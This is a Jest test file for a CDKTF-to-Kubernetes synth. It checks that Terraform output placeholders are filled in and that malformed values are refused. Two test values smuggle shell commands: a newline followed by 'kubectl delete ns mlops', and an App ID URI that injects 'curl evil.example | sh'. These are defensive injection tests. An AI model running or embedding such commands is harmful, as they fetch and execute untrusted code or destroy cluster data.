import { existsSync, mkdtempSync, rmSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { DeployOutputs } from '../../lib/core/deploy-outputs';
import { PlatformValidationError } from '../../lib/core/validation';
import { synthKubernetes } from '../../lib/platform/kubernetes/synth-kubernetes';
import { environments } from '../../stacks/environments';
import { placeholdersOf, sharedSynth } from '../support/example-synth';
import { loadYamlDir } from '../support/k8s-schema';

/** A value of the kind the output holds, as Terraform would write it. */
function valueOf(output: string): string {
  if (output.endsWith('client_id')) return '0c0c0c0c-1111-2222-3333-444444444444';
  if (output.endsWith('app_id_uri')) return 'api://0d0d0d0d-1111-2222-3333-444444444444';
  return '123456789012';
}

function thrown(run: () => unknown): unknown {
  try {
    run();
  } catch (error) {
    return error;
  }
  return undefined;
}

// The deploy flow: synth for review writes placeholders; after `cdktf apply`, the outputs file fills them in and
// strict mode proves none is left.

describe('the outputs hand-off from Terraform to the Kubernetes synth', () => {
  // The review synth of the examples is the shared one (without an outputs file); the strict runs synthesize here.
  const review = sharedSynth();
  const placeholders = placeholdersOf(review, environments);
  const work = mkdtempSync(join(tmpdir(), 'ml-mesh-outputs-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));

  test('review synth names every value it could not know, with the stack and output that provide it', () => {
    expect(placeholders.map((p) => `${p.stack}.${p.output}`)).toEqual([
      'prod-azure.azureml_model_deployer_client_id',
      'prod-azure.azureml_model_publisher_client_id',
      'prod-azure.feature_secrets_client_id',
      'prod-gcp.azureml_app_id_uri',
    ]);
    const folders = environments.map((env) => `dist/${env.name}/`);
    const yaml = Object.entries(review.files).filter(([f]) => folders.some((folder) => f.startsWith(folder))).map(([, text]) => text).join('\n');
    for (const p of placeholders) expect(yaml).toContain(p.text);
  });

  test('every placeholder is the name of an output the synthesized stacks really declare', () => {
    for (const p of placeholders) {
      const stack = JSON.parse(review.files[`cdktf.out/stacks/${p.stack}/cdk.tf.json`]);
      expect({ output: p.output, declared: Object.keys(stack.output ?? {}).includes(p.output) }).toEqual({ output: p.output, declared: true });
    }
  });

  test('with the outputs file, strict synth succeeds and writes the real values', () => {
    const file: Record<string, Record<string, string>> = {};
    for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
    const outdir = join(work, 'strict');
    const outputs = DeployOutputs.fromObject(file, true);
    synthKubernetes(environments, { outdir, outputs });
    expect(outputs.placeholders).toEqual([]);
    const objects = loadYamlDir(join(outdir, 'prod', 'gke-mlmesh-prod')) as any[];
    const featureStore = objects.find((o) => o.kind === 'Deployment' && o.metadata.name === 'feature-store');
    const env = featureStore.spec.template.spec.containers[0].env as { name: string; value: string }[];
    expect(env.find((e) => e.name === 'AZURE_CLIENT_ID')?.value).toBe(valueOf('feature_secrets_client_id'));
  });

  test.each([
    ['not-a-guid', 'must be a client ID (a GUID)'],
    ['11111111-2222-3333-4444-555555555555\nkubectl delete ns mlops', 'must be a client ID (a GUID)'],
  ])('a client ID of %j in the outputs file is refused, naming the output, before anything is written', (value, rule) => {
    const file: Record<string, Record<string, string>> = {};
    for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
    file['prod-azure'].feature_secrets_client_id = value;
    const outdir = join(work, 'bad-value');
    const error = thrown(() => synthKubernetes(environments, { outdir, outputs: DeployOutputs.fromObject(file, true) }));
    expect(error).toBeInstanceOf(PlatformValidationError);
    expect((error as PlatformValidationError).issues).toEqual([expect.objectContaining({ field: 'prod-azure.feature_secrets_client_id', value, rule: expect.stringContaining(rule) })]);
    expect(existsSync(outdir)).toBe(false);
  });

  test('an App ID URI that would inject shell is refused', () => {
    const file: Record<string, Record<string, string>> = {};
    for (const p of placeholders) (file[p.stack] ??= {})[p.output] = valueOf(p.output);
    file['prod-gcp'].azureml_app_id_uri = 'api://x"; curl evil.example | sh; echo "';
    expect(() => synthKubernetes(environments, { outdir: join(work, 'bad-uri'), outputs: DeployOutputs.fromObject(file, true) }))
      .toThrow(/prod-gcp\.azureml_app_id_uri = .*must be an App ID URI, api:\/\/<client id>/);
  });

  test('strict synth without the outputs file fails, listing each missing value', () => {
    const outdir = join(work, 'strict-missing');
    expect(() => synthKubernetes(environments, { outdir, outputs: DeployOutputs.fromObject({}, true) }))
      .toThrow(/strict mode: 4 value\(s\) missing[\s\S]*prod-azure\.feature_secrets_client_id/);
    expect(existsSync(outdir)).toBe(false);
  });
});
